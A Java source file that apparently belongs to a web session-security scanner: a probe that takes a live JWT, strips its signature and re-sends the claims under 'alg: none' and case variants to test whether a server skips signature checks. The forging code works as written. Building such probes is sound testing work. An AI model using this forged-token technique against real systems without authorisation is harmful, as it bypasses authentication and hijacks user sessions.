package dev.sessioninspector.probe;

import dev.sessioninspector.analysis.ProbeEvidence;
import dev.sessioninspector.analysis.ProbeKind;
import dev.sessioninspector.analysis.ProbeVerdict;
import dev.sessioninspector.analysis.SignedInOracle;
import dev.sessioninspector.model.Headers;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.function.Function;
import java.util.regex.Pattern;

/**
 * Takes a live signed-in JWT (signing in again through the flow when it can, else the last one the recording
 * sent), checks the server still takes it, then sends its claims unchanged under a header that says
 * {@code alg: none} — and {@code None}, {@code NONE}, {@code nOnE} — with an empty signature, to the signed-in
 * page. Signed in with any of them means the server does not check signatures.
 */
final class UnsignedTokenProbe extends ActiveProbe {
    /** The spellings of {@code none} that case-insensitive verifiers take. */
    static final List<String> ALGS = List.of("none", "None", "NONE", "nOnE");
    private static final Pattern JWT = Pattern.compile("eyJ[A-Za-z0-9_-]*\\.[A-Za-z0-9_-]+\\.[A-Za-z0-9_-]*");

    @Override
    ProbeKind kind() {
        return ProbeKind.UNSIGNED_TOKEN;
    }

    @Override
    String name() {
        return "unsigned token";
    }

    /** The token with its header replaced by {@code {"alg":"ALG","typ":"JWT"}} and no signature. */
    static String unsigned(String jwt, String alg) {
        String header = Base64.getUrlEncoder().withoutPadding()
                .encodeToString(("{\"alg\":\"" + alg + "\",\"typ\":\"JWT\"}").getBytes(StandardCharsets.UTF_8));
        return header + "." + jwt.split("\\.")[1] + ".";
    }

    @Override
    ProbeEvidence run(ProbeTarget t, ProbeClient.Run run) {
        if (t.credential() == null) {
            return inconclusive(t, run, "no session cookie or token was identified in the recording");
        }
        if (t.authenticatedUrl() == null) {
            return inconclusive(t, run, "no signed-in page is known (give the flow an authenticatedUrl)");
        }
        String recorded = t.byToken() ? t.lastToken()
                : t.observedIds().isEmpty() ? null : t.observedIds().get(t.observedIds().size() - 1);
        if (recorded == null || !JWT.matcher(recorded).matches()) {
            return inconclusive(t, run, "the session " + t.credential() + " is not a JWT, so there is no signature "
                    + "to leave out");
        }
        try (ProbeClient client = new ProbeClient(run)) {
            boolean signedIn = false;
            if (t.script().canSignIn()) {
                String notSignedIn = signIn(t, client);
                if (notSignedIn != null) {
                    return inconclusive(t, run, notSignedIn);
                }
                signedIn = true;
            }
            Optional<String> token = liveToken(t, client, signedIn);
            if (token.isEmpty() || !JWT.matcher(token.get()).matches()) {
                signOut(t, client);
                return verdict(t, run, ProbeVerdict.INCONCLUSIVE, "the session " + t.credential()
                        + " is not a JWT, so there is no signature to leave out");
            }
            Function<String, Headers> carry = t.byToken() ? t.token()::headers
                    : v -> Headers.of("Cookie", t.cookie() + "=" + v);
            String path = t.authenticatedUrl().getRawPath();
            ProbeClient.Response control = client.getWith(t.authenticatedUrl(), carry.apply(token.get()));
            if (control.failed()) {
                return inconclusive(t, run, "the signed-in page got no response: " + control.last().error());
            }
            if (t.oracle().judge(control.page()) != SignedInOracle.Verdict.SIGNED_IN) {
                signOut(t, client);
                return inconclusive(t, run, "the " + (signedIn ? "new" : "recorded") + " token itself no longer reaches "
                        + path + " (status " + control.last().status() + "), so an unsigned copy proves nothing");
            }
            for (String alg : ALGS) {
                ProbeClient.Response r = client.getWith(t.authenticatedUrl(), carry.apply(unsigned(token.get(), alg)));
                if (r.failed()) {
                    return inconclusive(t, run, "the unsigned token got no response: " + r.last().error());
                }
                if (t.oracle().judge(r.page()) == SignedInOracle.Verdict.SIGNED_IN) {
                    signOut(t, client);
                    return verdict(t, run, ProbeVerdict.VULNERABLE, "sent the same claims with alg: " + alg
                            + " and no signature to GET " + path + ": signed in (status " + r.last().status()
                            + ", exchange " + r.last().id() + ")");
                }
            }
            signOut(t, client);
            return verdict(t, run, ProbeVerdict.SAFE, "sent the same claims with alg: " + String.join(", ", ALGS)
                    + " and no signature to GET " + path + ": each refused, while the signed token is accepted");
        }
    }

    /** The token to alter: the one this client's sign-in got, else the last one the recording sent. */
    private static Optional<String> liveToken(ProbeTarget t, ProbeClient client, boolean signedIn) {
        if (t.byToken()) {
            if (signedIn) {
                Optional<String> fresh = client.signedInHeader(t.script(), t.token().header()).map(t.token()::token);
                if (fresh.isPresent()) {
                    return fresh;
                }
            }
            return Optional.ofNullable(t.lastToken());
        }
        if (signedIn) {
            Optional<String> fresh = client.cookie(t.authenticatedUrl(), t.cookie());
            if (fresh.isPresent()) {
                return fresh;
            }
        }
        return t.observedIds().isEmpty() ? Optional.empty()
                : Optional.of(t.observedIds().get(t.observedIds().size() - 1));
    }
}
